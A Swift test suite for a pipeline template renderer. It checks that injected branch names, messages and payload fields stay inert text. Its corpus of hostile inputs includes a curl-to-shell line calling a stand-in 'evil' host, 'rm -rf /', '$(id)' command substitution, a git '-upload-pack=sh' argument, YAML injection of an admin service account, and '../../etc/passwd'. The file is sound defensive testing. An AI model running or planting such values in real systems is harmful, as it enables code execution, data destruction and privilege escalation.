import Hooks
import JSON
import TestSupport
import Testing
import YAML

/// What strangers can put into branch names, titles and messages stays text in the objects.
@Suite struct InjectionTests {
  static let corpus: [String] = [
    "main$(id)", "x`id`", "a;curl${IFS}evil|sh", "'\"; rm -rf /; #", "$(params.secret)",
    "$(tt.params.other)", "$$(params.x)", "$$$(params.x)", "$(context.pipelineRun.name)",
    "$(event.sender)", "$(body.repository.full_name)", "$(body.b)", "-upload-pack=sh", "../../x",
    "x\n  serviceAccountName: admin", "\"},\"x\":{\"", "a\u{0}b", "a\u{2028}b", "\u{202E}gnp.exe",
    String(repeating: "é", count: 150), "null", "true", "5", "~", "🚀", "\u{FFFD}", "$", "(", "$(",
    "$\u{301}(x)", "$(\u{301}params.x)", "{{ .Values }}", "*", "[a]", "{a: b}", "- a", "# c", "%41",
    "\\u0024(x)",
    "$(tasks.build.results.$(params.y))",
  ]

  /// What the design says a value becomes, told in another way than the renderer does it.
  static func inert(_ text: String) -> String {
    var bytes: [UInt8] = []
    let input = Array(text.utf8)
    for index in input.indices {
      let opensReference =
        input[index] == UInt8(ascii: "(") && index > 0 && input[index - 1] == UInt8(ascii: "$")
      if opensReference { bytes.append(UInt8(ascii: "$")) }
      bytes.append(input[index])
    }
    return String(decoding: bytes, as: UTF8.self)
  }

  @Test(arguments: corpus)
  func `a value is text in its place and nothing else`(text: String) throws {
    var body = Fixture.push("refs/heads/\(text)", message: text)
    body["b"] = "pulled in"
    body["item"] = ["k": .string(text), "l": [.string(text)]]
    let spec = """
      serviceAccountName: builder
      params:
      - { name: BRANCH, value: $(event.branch) }
      - { name: MIXED, value: "x-$(event.branch)-$(body.b)-$(params.own)" }
      - { name: MESSAGE, value: "$(event.message)" }
      - { name: ITEM, value: $(body.item) }
      """
    let rendered = try TemplateTests.render(spec: spec, body: body)
    let inert = Self.inert(text)
    let expected: JSONValue = [
      "serviceAccountName": "builder",
      "params": [
        ["name": "BRANCH", "value": .string(inert)],
        ["name": "MIXED", "value": .string("x-\(inert)-pulled in-$(params.own)")],
        ["name": "MESSAGE", "value": .string(inert)],
        ["name": "ITEM", "value": ["k": .string(inert), "l": [.string(inert)]]],
      ],
    ]
    #expect(rendered.serialized() == expected.serialized())
    // And it survives being printed for people.
    let printed = try parseDocuments(rendered.yaml(), file: "printed").first?.root.json
    #expect(printed?.serialized() == expected.serialized())
  }

  @Test(.enabled(if: SharedData.isPresent, Comment(rawValue: SharedData.absence)))
  func `a push with hostile names gives the same object as any other`() throws {
    let body = try Fixture.payload("push.hostile-names.derived.json")
    let spec =
      "params: [{ name: B, value: $(event.branch) }, { name: F, value: $(event.files.all) }]"
    let rendered = try TemplateTests.render(spec: spec, body: body)
    #expect(
      rendered["params"]?[0]?["value"]
        == "$$(touch pwned)`id`;\"'|&<>{{x}}$$(params.y)")
    #expect(
      rendered["params"]?[1]?["value"] == ["../../etc/passwd", "a b;rm -rf *.txt", "-rf"])
  }

  /// References can also be made at a seam, of a `$` and a `(` from two sides.
  @Test func `no reference comes into being where a value meets its surroundings`() throws {
    let pieces = ["$", "(", "$$", "x", "((", "$(", ""]
    for first in pieces {
      for second in pieces {
        var body = Fixture.push()
        (body["a"], body["b"]) = (.string(first), .string(second))
        let rendered = try TemplateTests.render(
          spec: #"v: ["($(body.a)(x)", "$(body.a)$(body.b)(", "x$(body.a)y$(body.b)"]"#, body: body)
        for case .string(let text) in rendered["v"]?.arrayValue ?? [] {
          let bytes = Array(text.utf8)
          for index in bytes.indices.dropFirst() where bytes[index] == UInt8(ascii: "(") {
            let isReference = bytes[index - 1] == UInt8(ascii: "$")
            let isEscaped = index > 1 && bytes[index - 2] == UInt8(ascii: "$")
            #expect(!isReference || isEscaped, "\(first) and \(second) made \(text)")
          }
        }
      }
    }
  }
}
